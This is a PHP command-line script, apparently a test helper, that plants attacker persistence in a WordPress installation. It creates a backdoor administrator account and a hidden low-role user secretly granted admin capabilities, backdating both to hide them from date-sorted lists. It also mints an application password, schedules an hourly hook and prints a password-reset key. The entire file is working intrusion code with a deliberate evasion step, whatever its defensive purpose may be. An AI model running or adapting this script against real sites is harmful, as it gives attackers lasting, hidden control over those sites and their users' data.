<?php
/**
 * What an attacker does through WordPress: php plant.php DOCROOT URL < { backdoor, hidden: { login, password },
 * application: { login, name }, reset: login, hook }. Prints { application, reset }: the password and the key.
 */

$address = parse_url( $argv[2] );
$asked   = json_decode( stream_get_contents( STDIN ), true );

$_SERVER['HTTP_HOST']       = $address['host'] . ':' . $address['port'];
$_SERVER['REQUEST_URI']     = '/';
$_SERVER['SERVER_PROTOCOL'] = 'HTTP/1.1';

require $argv[1] . '/wp-load.php';
ini_set( 'display_errors', 'stderr' );

function plant_user( $account, $role ) {
	$id = wp_insert_user(
		array(
			'user_login'      => $account['login'],
			'user_pass'       => $account['password'],
			'user_email'      => $account['login'] . '@client.test',
			'role'            => $role,
			// As old as the site itself, so that no list by date shows it.
			'user_registered' => get_user_by( 'id', 1 )->user_registered,
		)
	);
	if ( is_wp_error( $id ) ) {
		fwrite( STDERR, $id->get_error_message() );
		exit( 1 );
	}
	return new WP_User( $id );
}

plant_user( $asked['backdoor'], 'administrator' );

$hidden = plant_user( $asked['hidden'], 'subscriber' );
$hidden->add_cap( 'manage_options' );
$hidden->add_cap( 'install_plugins' );

$owner                = get_user_by( 'login', $asked['application']['login'] );
list( $application, ) = WP_Application_Passwords::create_new_application_password( $owner->ID, array( 'name' => $asked['application']['name'] ) );

wp_schedule_event( time() + HOUR_IN_SECONDS, 'hourly', $asked['hook'] );

echo wp_json_encode(
	array(
		'application' => $application,
		'reset'       => get_password_reset_key( get_user_by( 'login', $asked['reset'] ) ),
	)
);
